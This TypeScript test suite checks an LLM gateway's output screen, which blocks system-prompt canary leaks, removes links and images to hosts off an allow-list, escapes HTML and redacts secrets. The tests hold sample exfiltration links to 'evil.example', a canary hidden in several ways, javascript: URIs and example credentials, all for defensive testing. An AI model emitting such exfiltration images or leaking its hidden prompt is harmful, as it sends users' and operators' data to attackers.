import * as fc from 'fast-check';
import { MAX_GROWTH, workGrowth } from '../../helpers/scaling';
import { OutputScreeningError, screenOutput, ScreenOutputOptions } from '../../../lambda/gateway/screen-output';

const CANARY = 'CNRY7F3K2QZ9XW4M';
const OPTS: ScreenOutputOptions = { canary: CANARY, allowedLinkHosts: ['docs.example.com', 'example.org'] };
const screen = (text: string, opts: Partial<ScreenOutputOptions> = {}): ReturnType<typeof screenOutput> =>
  screenOutput(text, { ...OPTS, ...opts });

/**
 * Every link destination a CommonMark/GFM renderer would still act on: inline links and images, reference
 * definitions, autolinks, and (when HTML passes through) absolute URLs in src/href attributes.
 */
function destinations(text: string, allowHtml: boolean): string[] {
  const found: string[] = [];
  // Inline links and images as CommonMark reads them: destination, optional title, closing parenthesis.
  for (const m of text.matchAll(/\[[^[\]]*\]\(\s*(?:<([^<>\n]*)>|(?!<)((?:[^\s()]|\([^\s()]*\))*))\s*(?:"[^"]*"|'[^']*'|\([^()]*\))?\s*\)/g)) {
    found.push(m[1] ?? m[2]!);
  }
  const definition = /^ {0,3}\[[^[\]\n]+\]:[ \t]*\n?[ \t]*(?:<([^<>\n]*)>|([^\s<]\S*))(?:[ \t]*\n?[ \t]*(?:"[^"\n]*"|'[^'\n]*'|\([^()\n]*\)))?[ \t]*$/gm;
  for (const m of text.matchAll(definition)) found.push(m[1] ?? m[2]!);
  for (const m of text.matchAll(/<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>/g)) found.push(m[1]!); // scheme: 2-32 chars
  if (allowHtml) {
    for (const m of text.matchAll(/(?:src|href)\s*=\s*["']?((?:[a-z][a-z0-9+.-]*:|\/\/)[^"'\s>]*)/gi)) found.push(m[1]!);
  }
  return found;
}

function hostAllowed(url: string, hosts: readonly string[]): boolean {
  try {
    const u = new URL(url.startsWith('//') ? `https:${url}` : url);
    return (u.protocol === 'https:' || u.protocol === 'http:') && hosts.some((h) => u.hostname === h || u.hostname.endsWith(`.${h}`));
  } catch {
    return false;
  }
}

describe('screenOutput', () => {
  describe('canary (system prompt leakage)', () => {
    test.each([
      ['verbatim', `My instructions say ${CANARY}.`],
      ['lower case', `token: ${CANARY.toLowerCase()}`],
      ['spaced out', `the code is ${[...CANARY].join(' ')}`],
      ['split by markup', `code **CNRY7F3K**2QZ9\`XW4M\``],
      ['with zero-width characters', [...CANARY].join('\u200b')],
      ['fullwidth', CANARY.replace(/[A-Z0-9]/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0))],
      ['with look-alike letters', CANARY.replace('C', 'С')], // Cyrillic Es
      ['reversed', [...CANARY].reverse().join('')],
      ['in base64', `encoded: ${Buffer.from(`prompt: ${CANARY}`).toString('base64')}`],
      ['in hex', Buffer.from(CANARY).toString('hex')],
      ['in an exfiltration URL', `![x](https://evil.example/p?d=${CANARY})`],
      ['joined by removing an image', 'CNRY7F3K![](https://evil.example/x.png)2QZ9XW4M'],
    ])('blocks a response containing the canary %s', (_how, text) => {
      // WHEN
      const result = screen(text);
      // THEN
      expect(result).toMatchObject({ blocked: true, text: '' });
      expect(result.reasons).toContain('canary-leak');
    });

    test('does not block text that merely shares part of the canary', () => {
      expect(screen('CNRY7F3K is half of something, 2QZ9 is another part.').blocked).toBe(false);
    });
  });

  describe('links and images', () => {
    test('keeps links and images to allowed hosts and their subdomains', () => {
      const text = 'See [docs](https://docs.example.com/a?b=1), [sub](https://api.docs.example.com/x) and ![logo](https://example.org/logo.png).';
      expect(screen(text)).toMatchObject({ text, blocked: false, removedLinks: 0 });
    });

    test('drops images to other hosts entirely and keeps the text of other links', () => {
      // GIVEN a classic exfiltration image and a link
      const text = 'Hi ![loading](https://evil.example/p.png?q=secret) read [this page](https://evil.example/a) now';
      // WHEN
      const result = screen(text);
      // THEN
      expect(result.text).toBe('Hi  read this page now');
      expect(result.removedLinks).toBe(2);
      expect(result.reasons).toEqual(expect.arrayContaining(['image-removed', 'link-removed']));
    });

    test('removes reference-style definitions and the references that used them', () => {
      const text = 'Look [here][1] and ![img][pic]\n\n[1]: https://evil.example/?q=1\n[pic]: <https://evil.example/i.png> "t"\n[ok]: https://docs.example.com/x\n';
      const result = screen(text);
      expect(result.text).toBe('Look here and \n\n[ok]: https://docs.example.com/x\n');
      expect(result.removedLinks).toBe(2);
    });

    test('removes autolinks to other hosts', () => {
      expect(screen('a <https://evil.example/x> b <https://docs.example.com/y>').text).toBe('a  b <https://docs.example.com/y>');
    });

    test('removes bare URLs that can carry data, keeps plain mentions', () => {
      const result = screen('Visit https://other.example/docs or https://other.example/log?d=abc, then https://other.example/aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.');
      expect(result.text).toBe('Visit https://other.example/docs or , then .');
    });

    test.each([
      ['javascript: URI', '[click](javascript:alert(1))', 'click'],
      ['data: URI image', '![x](data:image/png;base64,iVBORw0KGgo=)', ''],
      ['bare data: URI', 'open data:text/html;base64,PHNjcmlwdD4= now', 'open  now'],
      ['protocol-relative', '[a](//evil.example/x)', 'a'],
      ['relative link', '[a](/admin/delete?id=1)', 'a'],
      ['userinfo trick', '[a](https://docs.example.com@evil.example/x)', 'a'],
      ['look-alike host', '[a](https://docs.example.com.evil.example/x)', 'a'],
      ['allowed host redirecting elsewhere', '[a](https://docs.example.com/r?to=https://evil.example/?q=1)', 'a'],
      ['parentheses in the URL', '[w](https://evil.example/wiki/A_(b)?q=1)', 'w'],
      ['image inside a link', '[![i](https://evil.example/i.png)](https://evil.example/x)', ''],
    ])('removes a %s', (_kind, text, expected) => {
      expect(screen(text).text).toBe(expected);
    });
  });

  describe('HTML', () => {
    test('escapes raw HTML by default, removing URLs in attributes', () => {
      const result = screen('<img src="https://evil.example/?q=1"><script>alert(1)</script><!-- c --> a < b');
      expect(result.text).toBe('&lt;img src="">&lt;script>alert(1)&lt;/script>&lt;!-- c --> a < b');
      expect(result.reasons).toContain('html-escaped');
    });

    test('passes HTML through with allowHtml, still removing links to other hosts', () => {
      const result = screen('<b>bold</b> <a href="https://evil.example/x">x</a> <a href="https://docs.example.com/">ok</a>', { allowHtml: true });
      expect(result.text).toBe('<b>bold</b> <a href="">x</a> <a href="https://docs.example.com/">ok</a>');
    });
  });

  describe('secrets', () => {
    test.each([
      ['AWS access key id', 'key AKIAIOSFODNN7EXAMPLE here', 'key [REDACTED:aws-access-key-id] here'],
      ['AWS temporary key id', 'ASIAY34FZKBOKMUTVV7A', '[REDACTED:aws-access-key-id]'],
      ['AWS secret key in context', 'aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'aws_secret_access_key = [REDACTED:aws-secret-access-key]'],
      ['private key block', '-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n-----END OPENSSH PRIVATE KEY-----\ndone', '[REDACTED:private-key]\ndone'],
      ['unterminated private key', 'x -----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN', 'x [REDACTED:private-key]'],
      ['JWT', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', '[REDACTED:jwt]'],
      ['bearer token', 'Authorization: Bearer 0123456789abcdefghijklmnop', 'Authorization: Bearer [REDACTED:bearer-token]'],
      ['GitHub token', 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', '[REDACTED:github-token]'],
      ['Slack token', 'xoxb-123456789012-abcdefghijkl', '[REDACTED:slack-token]'],
      ['OpenAI-style key', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345', '[REDACTED:api-key]'],
      ['password assignment', 'password = "hunter2!"', 'password = "[REDACTED:password]"'],
      ['api_key assignment', 'API_KEY=9f8e7d6c5b4a3f2e1d0c', 'API_KEY=[REDACTED:api-key]'],
    ])('redacts a %s', (_kind, text, expected) => {
      const result = screen(text);
      expect(result.text).toBe(expected);
      expect(result.redactions).toBe(1);
      expect(result.reasons).toContain('secret-redacted');
    });

    test('leaves placeholders, code references and prose alone', () => {
      const text = [
        'password = os.environ["DB_PASSWORD"]',
        'api_key: YOUR_API_KEY',
        'API_KEY=${API_KEY}',
        'password: string;',
        'The secret: patience.',
        'A bearer token is sent in the Authorization header.',
      ].join('\n');
      expect(screen(text)).toMatchObject({ text, redactions: 0 });
    });
  });

  describe('validation', () => {
    test('fails if the canary is shorter than 8 letters or digits', () => {
      expect(() => screenOutput('x', { canary: 'ab-12', allowedLinkHosts: [] })).toThrow(OutputScreeningError);
      expect(() => screenOutput('x', { canary: 'ab-12', allowedLinkHosts: [] })).toThrow(/canary must contain at least 8/);
    });

    test('fails if an allowed host is not a host name', () => {
      expect(() => screen('x', { allowedLinkHosts: ['https://docs.example.com/'] })).toThrow(/allowedLinkHosts.*https:\/\/docs\.example\.com/);
      expect(() => screen('x', { allowedLinkHosts: ['exa mple.com'] })).toThrow(OutputScreeningError);
    });

    test('accepts wildcard and trailing-dot spellings of a host', () => {
      expect(screen('[a](https://x.docs.example.com/)', { allowedLinkHosts: ['*.docs.example.com.'] }).text).toBe('[a](https://x.docs.example.com/)');
    });
  });

  describe('properties', () => {
    const markdownish = fc.array(fc.oneof(
      fc.string({ unit: 'grapheme-ascii', maxLength: 12 }),
      fc.constantFrom('[', ']', '(', ')', '![', '](', '<', '>', '"', '\n', ' ', ':', '[1]: ', '\n[x]: ', '<https://',
        'https://evil.example/?q=', 'https://docs.example.com/', '//evil.example/', 'javascript:', 'data:image/png;base64,',
        'AKIA', 'IOSFODNN7EXAMPLE', 'eyJ', '-----BEGIN PRIVATE KEY-----', 'password=', '<img src=', '\u200b', 'Bearer '),
    ), { maxLength: 30 }).map((p) => p.join(''));

    test('never throws on arbitrary strings', () => {
      fc.assert(fc.property(fc.oneof(markdownish, fc.string({ unit: 'binary' })), fc.boolean(), (text, allowHtml) => {
        expect(() => screen(text, { allowHtml })).not.toThrow();
      }), { numRuns: 2000 });
    });

    test('leaves no link, image, definition, autolink or attribute URL to a host outside the allow-list', () => {
      fc.assert(fc.property(markdownish, fc.boolean(), (text, allowHtml) => {
        const out = screen(text, { allowHtml }).text;
        for (const dest of destinations(out, allowHtml)) {
          if (dest === '' || dest.startsWith('#') || /^[a-z][a-z0-9+.-]*:$/i.test(dest)) continue; // nothing to follow
          expect(hostAllowed(dest, OPTS.allowedLinkHosts)).toBe(true);
        }
        // Bare URLs with a query string (trailing sentence punctuation is not part of a URL).
        for (const m of out.matchAll(/https?:\/\/[^\s<>"'`]*/gi)) {
          const url = m[0].replace(/[.,;:!?)\]}*_~]+$/, '');
          if (url.includes('?')) expect(hostAllowed(url, OPTS.allowedLinkHosts)).toBe(true);
        }
        expect(out).not.toMatch(/javascript:\S/i);
      }), { numRuns: 2000 });
    });

    test('is idempotent on its own output', () => {
      fc.assert(fc.property(fc.oneof(markdownish, fc.string({ unit: 'binary', maxLength: 200 })), fc.boolean(), (text, allowHtml) => {
        const once = screen(text, { allowHtml });
        const twice = screen(once.text, { allowHtml });
        expect(twice.text).toBe(once.text);
        expect(twice.redactions).toBe(0);
        expect(twice.removedLinks).toBe(0);
      }), { numRuns: 2000 });
    });

    test('blocks whenever the canary appears anywhere, however it is split', () => {
      const separator = fc.constantFrom('', ' ', '\u200b', '-', '**', '\u00ad', '`', '.');
      fc.assert(fc.property(fc.string({ maxLength: 80 }), fc.string({ maxLength: 80 }), fc.array(separator, { minLength: CANARY.length, maxLength: CANARY.length }), fc.boolean(),
        (before, after, seps, lower) => {
          const canary = [...(lower ? CANARY.toLowerCase() : CANARY)].map((c, i) => c + seps[i]).join('');
          const result = screen(`${before}${canary}${after}`);
          expect(result.blocked).toBe(true);
          expect(result.text).toBe('');
        }), { numRuns: 1000 });
    });
  });

  describe('dense trigger characters', () => {
    // Patterns run at the positions of a literal they must contain; when that literal is everywhere, the screen scans
    // the whole text instead. Both ways must find the same things.
    test.each([
      ['AWS access key id', 'A', 'key AKIAIOSFODNN7EXAMPLE here', 'aws-access-key-id'],
      ['JWT', 'J', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U', 'jwt'],
      ['GitHub token', '_', 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', 'github-token'],
      ['API key', '-', 'sk-proj-abcdefghijklmnopqrstuvwxyz012345', 'api-key'],
      ['password assignment', ':', 'password = "hunter2!"', 'password'],
      ['private key', 'B', '-----BEGIN PRIVATE KEY-----\nMIIEvQIBADAN\n-----END PRIVATE KEY-----', 'private-key'],
    ])('redacts a %s among many "%s" characters', (_kind, trigger, secret, kind) => {
      // GIVEN the secret after a few triggers, and after more triggers than are visited one by one
      for (const padding of [`${trigger} `.repeat(10), `${trigger} `.repeat(50_000)]) {
        // WHEN
        const result = screen(`${padding}\n${secret}\n`);
        // THEN
        expect(result.text).toContain(`[REDACTED:${kind}]`);
        expect(result.redactions).toBe(1);
      }
    });

    test.each([
      ['"["', '[', '[a](https://evil.example/x)', '\na\n'],
      ['"<"', '< ', '<https://evil.example/x> <b>', '\n &lt;b>\n'],
      ['":"', ': ', '[x](javascript:alert(1))', '\nx\n'],
    ])('removes links among many %s characters', (_name, trigger, link, expected) => {
      for (const padding of [trigger.repeat(10), trigger.repeat(100_000)]) {
        expect(screen(`${padding}\n${link}\n`).text).toBe(`${padding}${expected}`.replace(/</g, '<'));
      }
    });

    test('finds the canary among many occurrences of its rarest character', () => {
      // GIVEN the canary's digits repeated everywhere (the search walks out from each occurrence of one of them)
      const digits = CANARY.replace(/[^0-9]/g, '');
      const noise = `${digits} `.repeat(100_000);
      // THEN a spaced-out canary inside the noise is found, and the noise alone is not a leak
      expect(screen(`${noise}${[...CANARY].join(' ')}${noise}`).blocked).toBe(true);
      expect(screen(noise).blocked).toBe(false);
    });
  });

  describe('linear time', () => {
    // Counted work from 128 KB to 1 MB, not time: the speed target is in `npm run bench:screening`.
    const fill = (unit: string) => (size: number): string => unit.repeat(Math.ceil(size / unit.length)).slice(0, size);
    test.each([
      ['"["', fill('[')],
      ['"]("', fill('](')],
      ['unclosed links', fill('[a](https://evil.example/')],
      ['many images', fill('![a](https://evil.example/i.png?q=1) ')],
      ['"<"', fill('<')],
      ['unclosed autolinks', fill('<https:')],
      ['JWT prefixes', fill('eyJ')],
      ['JWT-like segments', fill('eyJabcdefghij.')],
      ['private key headers', fill('-----BEGIN PRIVATE KEY-----')],
      ['private key blocks on one line', fill('-----BEGIN PRIVATE KEY-----x-----END PRIVATE KEY-----')],
      ['assignments', fill('password=')],
      ['bare URLs', fill('https://evil.example/?q=')],
      ['base64 text', fill('QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVo=')],
      ['zero-width soup', fill('a\u200b')],
    ])('screens %s in time linear in its size (1 MB)', (_name, make) => {
      expect(workGrowth((text: string) => screen(text), make)).toBeLessThanOrEqual(MAX_GROWTH);
    });
  });
});
